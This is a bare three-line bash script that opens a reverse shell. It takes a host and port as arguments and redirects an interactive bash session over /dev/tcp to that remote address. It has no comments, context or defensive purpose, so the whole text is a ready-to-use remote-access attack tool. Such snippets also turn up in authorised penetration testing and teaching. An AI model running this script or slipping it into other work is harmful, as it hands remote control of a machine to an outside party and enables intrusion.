#!/bin/bash
host="$1"; port="$2"
bash -i >& /dev/tcp/$host/$port 0>&1
